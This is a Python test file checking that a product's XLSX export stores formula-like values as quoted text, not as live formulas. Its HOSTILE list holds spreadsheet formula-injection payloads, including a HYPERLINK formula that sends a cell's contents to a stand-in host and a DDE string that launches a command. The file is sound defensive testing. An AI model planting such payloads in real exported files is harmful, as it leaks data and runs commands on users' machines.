"""Every XLSX the product writes shows hostile text as text, never as a live formula."""

from __future__ import annotations

from io import BytesIO

import pytest
from flask import Flask
from openpyxl import load_workbook

from app.core.xlsx import xlsx_response

HOSTILE = ['=HYPERLINK("http://evil.example/?"&K2,"核对")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(values: list) -> list:
    with Flask(__name__).app_context():
        response = xlsx_response({"名单": [["值"], *[[value] for value in values]]}, "x.xlsx")
    sheet = load_workbook(BytesIO(response.get_data())).active
    return [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_is_stored_as_quoted_text(value):
    [(stored, kind)] = cells([value])
    # XML keeps a CR as a line feed; what matters is the quote in front and the text type
    assert stored == "'" + value.replace("\r", "\n") and kind == "s"


def test_ordinary_values_are_unchanged():
    assert cells(["韦小明", "6222021234567890123", 1500, -3, "a=b"]) == [
        ("韦小明", "s"), ("6222021234567890123", "s"), (1500, "n"), (-3, "n"), ("a=b", "s")]
